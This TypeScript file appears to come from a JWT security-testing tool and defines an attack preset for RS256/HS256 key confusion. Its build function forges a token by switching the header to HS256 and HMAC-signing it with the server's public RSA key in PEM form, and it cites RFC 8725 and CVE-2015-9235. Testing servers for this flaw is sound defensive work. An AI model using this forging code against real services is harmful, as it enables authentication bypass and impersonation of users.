import { describeJwk, jwkToPem, readKey } from '../keys/export';
import { hmacSha256, signingInput } from './encode';
import type { AttackPreset } from './types';

export const keyConfusion: AttackPreset = {
  id: 'key-confusion',
  title: 'RS/HS key confusion',
  tests:
    'Whether the server lets the token pick HS256 while holding an RSA public key: the token is HMAC-signed with the bytes of the public key PEM, which everyone can download.',
  correctServer:
    'Rejects it: the key is bound to one algorithm (RS256), so an HS256 token is refused before any HMAC is computed.',
  reference: 'RFC 8725 §2.1, §3.1; CVE-2015-9235',
  needs: 'publicKey',
  async build({ header, payload, publicKey }) {
    if (!publicKey) throw new Error("Paste or generate the server's RSA public key first.");
    const reading = await readKey(publicKey);
    if (!reading.ok) throw new Error(reading.reason);
    if (reading.jwk.kty !== 'RSA')
      throw new Error(
        `Key confusion targets servers that hold an RSA public key; this key is ${describeJwk(reading.jwk)}.`,
      );
    // The vulnerable server reads its PEM file's bytes as the HMAC secret, trailing newline included.
    const { publicPem } = await jwkToPem(reading.jwk);
    const forgedHeader = { ...header, alg: 'HS256' };
    const input = signingInput(forgedHeader, payload);
    const signature = await hmacSha256(new TextEncoder().encode(publicPem), input);
    return { token: `${input}.${signature}`, header: forgedHeader, payload, attackerKey: publicPem };
  },
};
